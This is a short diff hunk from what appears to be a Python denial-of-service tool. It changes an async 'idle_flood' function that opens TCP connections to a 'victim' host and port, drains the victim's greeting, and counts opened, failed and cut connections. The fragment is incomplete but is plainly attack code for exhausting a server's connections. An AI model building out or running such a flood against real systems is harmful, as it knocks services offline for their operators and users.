@@ -59,7 +59,9 @@ async def idle_flood(victim: Victim, tally: Counter[str]) -> None:
                 address = victim.address
                 async with await trio.open_tcp_stream(address.host, address.port) as stream:
                     tally["opened"] += 1
-                    await stream.receive_some(1)
+                    while await stream.receive_some(1024):
+                        pass  # its greeting
+                tally["cut"] += 1
             except OSError:
                 tally["failed"] += 1
             except trio.BrokenResourceError:
